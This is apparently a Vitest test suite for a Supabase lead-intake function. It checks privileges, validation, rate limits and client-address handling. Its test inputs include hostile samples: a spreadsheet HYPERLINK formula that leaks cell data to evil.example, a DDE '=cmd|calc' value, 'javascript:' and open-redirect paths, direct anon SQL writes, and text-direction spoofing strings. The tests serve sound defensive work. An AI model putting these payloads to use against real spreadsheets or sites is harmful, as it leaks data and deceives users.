/**
 * The lead intake on a real PostgreSQL with Supabase's default privileges (supabaseShim.sql):
 * public.submit_lead called the way PostgREST calls it, connected as `authenticator`, switched to
 * the request's role, with the JWT claims and request headers as settings.
 */
import { randomUUID } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import pg from 'pg'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { leadLimits, leadRateLimits } from '../../src/leads/leadSchema'
import { callFunction, inPostgrestTransaction, type ApiRole } from '../fakeSupabase/postgrestTransaction'
import { migrate, startPostgres, type TestDatabase } from './postgres'

let database: TestDatabase
let owner: pg.Client
let api: pg.Pool

beforeAll(async () => {
  database = await startPostgres()
  owner = new pg.Client({ connectionString: database.url })
  await owner.connect()
  await migrate(owner)
  api = new pg.Pool({ connectionString: database.apiUrl, max: 8 })
}, 60_000)

afterAll(async () => {
  await api?.end()
  await owner?.end()
  database?.stop()
})

// Each test starts with no recorded submissions, so rate limits of one test do not reach the next.
beforeEach(async () => {
  await owner.query('delete from private.lead_submissions')
})

let addressCounter = 0
/** A client address of its own (TEST-NET-3), so tests do not share an address's allowance. */
const freshAddress = () => `203.0.113.${++addressCounter % 250}`
const freshEmail = () => `amira.${randomUUID().slice(0, 8)}@ministry.example`

const lead = () => ({
  kind: 'demo',
  name: 'Amira Haddad',
  email: freshEmail(),
  organisation: 'Ministry of Digital Affairs',
  country: 'GB',
  role: 'Head of Security',
  team_size: '250-999',
  interest: 'government',
  message: 'We would like to evaluate the sovereign deployment.',
  consent: true,
  language: 'en',
  source_path: '/contact',
})

interface Call {
  role?: ApiRole
  headers?: Record<string, string>
}

/** POST /rest/v1/rpc/submit_lead as PostgREST runs it. */
async function submit(body: Record<string, unknown>, { role = 'anon', headers = { 'cf-connecting-ip': freshAddress() } }: Call = {}) {
  const client = await api.connect()
  try {
    return await inPostgrestTransaction(client, { role, headers, path: '/rpc/submit_lead' }, () => callFunction(client, 'submit_lead', body))
  } finally {
    client.release()
  }
}

/** The refusal's SQLSTATE and its details (JSON), as PostgREST passes them on. */
async function refusal(promise: Promise<unknown>): Promise<{ code: string; details: Record<string, string> }> {
  const error = await promise.then(
    () => null,
    (caught: { code?: string; detail?: string }) => caught,
  )
  if (!error) throw new Error('the lead was accepted')
  return { code: String(error.code), details: error.detail?.startsWith('{') ? (JSON.parse(error.detail) as Record<string, string>) : {} }
}

const stored = async (email: string) => (await owner.query('select * from public.leads where email = $1 order by created_at', [email])).rows

describe('a lead submitted through public.submit_lead', () => {
  it('is stored with the columns the database owns set by the database', async () => {
    const body = { ...lead(), name: '  Amira Haddad  ', email: ' Amira.Haddad@Ministry.example ', source_path: '/contact?utm_source=mail#request-a-demo' }
    expect(await submit(body)).toBeUndefined()
    const [row] = await stored('amira.haddad@ministry.example')
    const now = (await owner.query<{ now: Date }>('select now()')).rows[0]!.now
    expect(row).toMatchObject({ name: 'Amira Haddad', email: 'amira.haddad@ministry.example', source_path: '/contact', spam_suspected: false, consent: true, kind: 'demo' })
    expect(row.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/)
    expect(Math.abs(row.created_at.getTime() - now.getTime())).toBeLessThan(60_000)
  })

  it('offers the caller no way to set the id, the time, the spam flag or anything else the database owns', async () => {
    for (const column of ['id', 'created_at', 'spam_suspected']) {
      await expect(submit({ ...lead(), [column]: column === 'created_at' ? '1999-01-01T00:00:00Z' : column === 'id' ? randomUUID() : false })).rejects.toThrow(/Could not find the function public\.submit_lead/)
    }
    const { rows } = await owner.query<{ names: string[] }>(`select proargnames as names from pg_proc where proname = 'submit_lead'`)
    expect(rows[0]!.names).toEqual(['kind', 'name', 'email', 'organisation', 'country', 'role', 'team_size', 'interest', 'consent', 'language', 'source_path', 'message', 'honeypot'])
  })

  it('keeps a lead whose hidden honeypot field was filled, flagged as suspected spam', async () => {
    const body = { ...lead(), honeypot: 'https://spam.example' }
    await submit(body)
    expect(await stored(body.email)).toEqual([expect.objectContaining({ spam_suspected: true, organisation: 'Ministry of Digital Affairs' })])
  })
})

describe('the API roles and the leads table', () => {
  it('starts from Supabase’s default privileges: everything new in public is granted to the API roles', async () => {
    const { rows } = await owner.query<{ acl: string }>(`select defaclacl::text as acl from pg_default_acl where defaclnamespace = 'public'::regnamespace and defaclobjtype = 'r'`)
    expect(rows[0]!.acl).toMatch(/anon=arwdDxt/)
    expect(rows[0]!.acl).toMatch(/authenticated=arwdDxt/)
  })

  it.each([
    ['insert', `insert into public.leads (kind, name, email, organisation, country, role, team_size, interest, consent, language, source_path, created_at) values ('demo', 'Eve', 'eve@attacker.example', 'Evil', 'GB', 'CEO', '1-49', 'government', true, 'en', '/', '1999-01-01')`, 'table leads'],
    ['select', 'select * from public.leads', 'table leads'],
    ['update', `update public.leads set name = 'Eve'`, 'table leads'],
    ['delete', 'delete from public.leads', 'table leads'],
    ['read the rate-limit records', 'select * from private.lead_submissions', 'schema private'],
    ['erase the rate-limit records', 'delete from private.lead_submissions', 'schema private'],
  ])('refuses anon and authenticated to %s directly', async (_, sql, object) => {
    for (const role of ['anon', 'authenticated'] as const) {
      const client = await api.connect()
      try {
        await expect(inPostgrestTransaction(client, { role, claims: { sub: randomUUID() } }, () => client.query(sql))).rejects.toMatchObject({ code: '42501', message: `permission denied for ${object}` })
      } finally {
        client.release()
      }
    }
  })

  it('runs submit_lead with its owner’s rights and a fixed search_path, owned by the table’s owner', async () => {
    const { rows } = await owner.query(
      `select p.prosecdef as definer, p.proconfig as config, pg_get_userbyid(p.proowner) = pg_get_userbyid(c.relowner) as owns_table
         from pg_proc p, pg_class c where p.proname = 'submit_lead' and c.oid = 'public.leads'::regclass`,
    )
    expect(rows).toEqual([{ definer: true, config: ['search_path=""'], owns_table: true }])
  })

  it('lets anon, authenticated and service_role execute submit_lead, and not PUBLIC', async () => {
    const { rows } = await owner.query<{ grantee: string }>(
      `select coalesce(r.rolname, 'PUBLIC') as grantee from pg_proc p, aclexplode(p.proacl) a left join pg_roles r on r.oid = a.grantee
        where p.proname = 'submit_lead' and a.privilege_type = 'EXECUTE' order by 1`,
    )
    expect(rows.map((row) => row.grantee)).toEqual(['anon', 'authenticated', 'postgres', 'service_role'])
  })

  it('gives PUBLIC no function of the private helper schema', async () => {
    const { rows } = await owner.query<{ name: string }>(
      `select p.proname as name from pg_proc p where p.pronamespace = 'private'::regnamespace and has_function_privilege('public', p.oid, 'execute')`,
    )
    expect(rows).toEqual([])
  })
})

describe('what submit_lead refuses', () => {
  it.each([
    ['name', 'ab' + ' '.repeat(1_000_000)],
    ['organisation', 'ab' + '\u00a0'.repeat(1_000_000)],
    ['role', 'ab' + '\t'.repeat(200)],
    ['message', 'ok' + ' '.repeat(5000)],
    ['email', 'amira@ministry.example' + ' '.repeat(300)],
  ])('a %s padded with whitespace beyond its limit (the raw length counts, not the trimmed one)', async (field, value) => {
    const body = { ...lead(), [field]: value }
    expect(await refusal(submit(body))).toEqual({ code: '22023', details: { field, reason: 'tooLong' } })
    expect(await stored(body.email)).toEqual([])
  })

  it.each([
    ['name', 'Amira\u0007 Haddad'],
    ['name', 'Amira\u001b[31m Haddad'],
    ['name', 'Amira\u007f'],
    ['name', 'Amira\u0085Haddad'],
    ['name', 'Amira\nHaddad'],
    ['organisation', 'Ministry\u2028of Digital Affairs'],
    ['organisation', 'Ministry\u2029of Digital Affairs'],
    ['role', 'Head of \u202eytiruceS'],
    ['role', 'Head \u2066of\u2069 Security'],
    ['email', 'amira\u200f@ministry.example\u202d'],
    ['message', 'Please call \u202e1234 567 020'],
    ['message', 'Ring\u0007 the bell'],
  ])('%s with a control or text-direction character (%j)', async (field, value) => {
    expect(await refusal(submit({ ...lead(), [field]: value }))).toEqual({ code: '22023', details: { field, reason: 'characters' } })
  })

  it('keeps line breaks and tabs in the message', async () => {
    const body = { ...lead(), message: 'Two questions:\n\t1. Sovereign hosting\r\n\t2. PSTN bridging' }
    await submit(body)
    expect((await stored(body.email))[0].message).toBe(body.message)
  })

  it.each(['not-an-email', 'amira@ministry', 'amira ministry@example.org', 'amira@@ministry.example', '=cmd|calc@ministry.example', '-amira@ministry.example', 'amira@ministry.e', '<amira@ministry.example>'])(
    'the email %j',
    async (email) => {
      expect(await refusal(submit({ ...lead(), email }))).toEqual({ code: '22023', details: { field: 'email', reason: 'email' } })
    },
  )

  it.each(['javascript:alert(1)', 'https://evil.example/contact', '//evil.example/contact', '/\\evil.example', 'contact', '/contact page', '/contact\u0000', '/contact\u202e', ''])(
    'the source path %j, which is not a path on this site',
    async (sourcePath) => {
      const result = await refusal(submit({ ...lead(), source_path: sourcePath }))
      expect(result.details.field ?? result.code).toBe(sourcePath.includes('\u0000') ? '22P05' : 'source_path')
    },
  )

  it.each([
    ['kind', 'partner', 'choice'],
    ['team_size', '7', 'choice'],
    ['interest', 'platinum', 'choice'],
    ['country', 'gb', 'choice'],
    ['language', 'it', 'choice'],
    ['consent', false, 'consent'],
    ['name', null, 'required'],
    ['name', '   ', 'required'],
  ])('%s of %j', async (field, value, reason) => {
    expect(await refusal(submit({ ...lead(), [field]: value }))).toEqual({ code: '22023', details: { field, reason } })
  })
})

describe('spreadsheet formulas', () => {
  it.each(['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '+44 20 7946 0321', '-2+3', '@SUM(A1:A9)'])('are stored as text with a leading apostrophe: %j', async (formula) => {
    const body = { ...lead(), name: `  ${formula.slice(0, 100)}`, organisation: formula, role: formula.slice(0, 100), message: formula }
    await submit(body)
    const [row] = await stored(body.email)
    for (const field of ['organisation', 'message'] as const) expect(row[field]).toBe(`'${formula}`)
    expect(row.name).toBe(`'${formula.slice(0, 100)}`)
    expect(row.role).toBe(`'${formula.slice(0, 100)}`)
  })

  it('leave ordinary text alone', async () => {
    const body = { ...lead(), message: 'Budget approved; pilot in Q3 = 40 seats.' }
    await submit(body)
    expect((await stored(body.email))[0].message).toBe(body.message)
  })
})

describe('the limits are the form’s limits (src/leads/leadSchema.ts)', () => {
  const textFields = [
    ['name', leadLimits.name],
    ['organisation', leadLimits.organisation],
    ['role', leadLimits.role],
    ['message', leadLimits.message],
  ] as const

  it.each(textFields)('%s: accepts the maximum, refuses one more character and one fewer than the minimum', async (field, [min, max]) => {
    const atMax = { ...lead(), [field]: 'é'.repeat(max) }
    await submit(atMax)
    expect((await stored(atMax.email))[0][field]).toBe('é'.repeat(max))
    expect(await refusal(submit({ ...lead(), [field]: 'é'.repeat(max + 1) }))).toEqual({ code: '22023', details: { field, reason: 'tooLong' } })
    if (min > 1) expect(await refusal(submit({ ...lead(), [field]: 'é'.repeat(min - 1) }))).toEqual({ code: '22023', details: { field, reason: 'tooShort' } })
  })

  it.each(textFields)('%s: a formula of the maximum length is stored with its apostrophe', async (field, [, max]) => {
    const body = { ...lead(), [field]: '=' + 'x'.repeat(max - 1) }
    await submit(body)
    expect((await stored(body.email))[0][field]).toHaveLength(max + 1)
  })

  it('email: accepts the maximum and refuses one more character', async () => {
    const [, max] = leadLimits.email
    const longest = `${'a'.repeat(max - '@ministry.example'.length)}@ministry.example`
    await submit({ ...lead(), email: longest })
    expect(await stored(longest)).toHaveLength(1)
    expect(await refusal(submit({ ...lead(), email: `a${longest}` }))).toEqual({ code: '22023', details: { field: 'email', reason: 'tooLong' } })
  })

  it('source path: accepts the maximum and refuses one more character', async () => {
    const [, max] = leadLimits.sourcePath
    const longest = '/' + 'p'.repeat(max - 1)
    const body = { ...lead(), source_path: longest }
    await submit(body)
    expect((await stored(body.email))[0].source_path).toBe(longest)
    expect(await refusal(submit({ ...lead(), source_path: `${longest}p` }))).toEqual({ code: '22023', details: { field: 'source_path', reason: 'tooLong' } })
  })
})

describe('the rate limit', () => {
  const { perEmail, perAddress, windowMinutes } = leadRateLimits

  it(`accepts ${perEmail} leads from one email address in ${windowMinutes} minutes, from any address, then refuses with 429 and the time to retry`, async () => {
    const email = freshEmail()
    for (let i = 0; i < perEmail; i++) await submit({ ...lead(), email: i === 1 ? email.replace('@', '+again@') : email })
    const refused = await refusal(submit({ ...lead(), email: email.toUpperCase() }))
    expect(refused.code).toBe('PT429')
    expect(refused.details.limit).toBe('email')
    const firstAt = (await owner.query<{ at: Date }>('select min(created_at) as at from public.leads where email = $1', [email])).rows[0]!.at
    expect(new Date(refused.details.retry_after!).getTime()).toBe(Math.floor(firstAt.getTime() / 1000) * 1000 + windowMinutes * 60_000)
    expect((await stored(email)).length + (await stored(email.replace('@', '+again@'))).length).toBe(perEmail)
  })

  it(`accepts ${perAddress} leads from one client address, then refuses any email from it; other addresses still get through`, async () => {
    const address = freshAddress()
    for (let i = 0; i < perAddress; i++) await submit(lead(), { headers: { 'cf-connecting-ip': address } })
    expect(await refusal(submit(lead(), { headers: { 'cf-connecting-ip': address } }))).toMatchObject({ code: 'PT429', details: { limit: 'address' } })
    await expect(submit(lead(), { headers: { 'cf-connecting-ip': freshAddress() } })).resolves.toBeUndefined()
  })

  it('stores no more than the allowance when a script calls a thousand times from one address', async () => {
    const address = freshAddress()
    const emails: string[] = []
    let refused = 0
    for (let i = 0; i < 1000; i++) {
      const body = lead()
      emails.push(body.email)
      await submit(body, { headers: { 'cf-connecting-ip': address } }).catch(() => refused++)
    }
    const { rows } = await owner.query<{ count: string }>('select count(*) from public.leads where email = any($1)', [emails])
    expect(Number(rows[0]!.count)).toBe(perAddress)
    expect(refused).toBe(1000 - perAddress)
  }, 60_000)

  it('holds when the calls arrive at the same time', async () => {
    const email = freshEmail()
    const results = await Promise.allSettled(Array.from({ length: 16 }, () => submit({ ...lead(), email })))
    expect(results.filter((result) => result.status === 'fulfilled')).toHaveLength(perEmail)
    expect(await stored(email)).toHaveLength(perEmail)
  })

  it('lets an email address submit again once its oldest lead is older than the window', async () => {
    const email = freshEmail()
    for (let i = 0; i < perEmail; i++) await submit({ ...lead(), email })
    await expect(submit({ ...lead(), email })).rejects.toMatchObject({ code: 'PT429' })
    await owner.query(`update private.lead_submissions set submitted_at = submitted_at - make_interval(mins => $1)`, [windowMinutes])
    await expect(submit({ ...lead(), email })).resolves.toBeUndefined()
    expect(Number((await owner.query('select count(*) from private.lead_submissions')).rows[0].count)).toBe(2)
  })

  describe('what counts as the client address', () => {
    const fill = async (headers: Record<string, string>, role: ApiRole = 'anon') => {
      for (let i = 0; i < perAddress; i++) await submit(lead(), { headers, role })
    }

    it('is Cloudflare’s cf-connecting-ip, whatever x-forwarded-for the client sends', async () => {
      const address = freshAddress()
      await fill({ 'cf-connecting-ip': address, 'x-forwarded-for': `10.0.0.1, ${address}` })
      expect(await refusal(submit(lead(), { headers: { 'cf-connecting-ip': address, 'x-forwarded-for': '192.0.2.77' } }))).toMatchObject({ code: 'PT429', details: { limit: 'address' } })
    })

    it('without it, the last x-forwarded-for entry (the proxy’s), not the first (the client’s own claim)', async () => {
      const address = freshAddress()
      for (let i = 0; i < perAddress; i++) await submit(lead(), { headers: { 'x-forwarded-for': `198.51.100.${i}, ${address}` } })
      expect(await refusal(submit(lead(), { headers: { 'x-forwarded-for': `192.0.2.200, ${address}` } }))).toMatchObject({ code: 'PT429', details: { limit: 'address' } })
    })

    it('is the /64 network for IPv6, which one subscriber holds whole', async () => {
      for (let i = 0; i < perAddress; i++) await submit(lead(), { headers: { 'cf-connecting-ip': `2001:db8:1:2::${i + 1}` } })
      expect(await refusal(submit(lead(), { headers: { 'cf-connecting-ip': '2001:db8:1:2:ffff::1' } }))).toMatchObject({ code: 'PT429', details: { limit: 'address' } })
      await expect(submit(lead(), { headers: { 'cf-connecting-ip': '2001:db8:1:3::1' } })).resolves.toBeUndefined()
    })

    it('is never taken from x-lead-client-address when anon sends it; the service role may pass a visitor’s address in it', async () => {
      const address = freshAddress()
      await fill({ 'cf-connecting-ip': address })
      const asAnon = submit(lead(), { headers: { 'cf-connecting-ip': address, 'x-lead-client-address': freshAddress() } })
      expect(await refusal(asAnon)).toMatchObject({ code: 'PT429' })
      const visitor = freshAddress()
      await fill({ 'cf-connecting-ip': address, 'x-lead-client-address': visitor }, 'service_role')
      expect(await refusal(submit(lead(), { role: 'service_role', headers: { 'x-lead-client-address': visitor } }))).toMatchObject({ code: 'PT429', details: { limit: 'address' } })
    })
  })
})

describe('with the bot check required (supabase/optional/require_bot_check.sql)', () => {
  const signature = 'public.submit_lead(text, text, text, text, text, text, text, text, boolean, text, text, text, text)'
  beforeAll(async () => {
    await owner.query(readFileSync(join(import.meta.dirname, '../../supabase/optional/require_bot_check.sql'), 'utf8'))
  })
  afterAll(async () => {
    await owner.query(`grant execute on function ${signature} to anon, authenticated`)
  })

  it('refuses the browser roles, so a script cannot skip the Edge Function and its bot check', async () => {
    await expect(submit(lead())).rejects.toMatchObject({ code: '42501', message: 'permission denied for function submit_lead' })
    await expect(submit(lead(), { role: 'authenticated' })).rejects.toMatchObject({ code: '42501' })
  })

  it('still takes leads from the service role, as the Edge Function sends them', async () => {
    const body = lead()
    await submit(body, { role: 'service_role', headers: { 'x-lead-client-address': freshAddress() } })
    expect(await stored(body.email)).toHaveLength(1)
  })
})
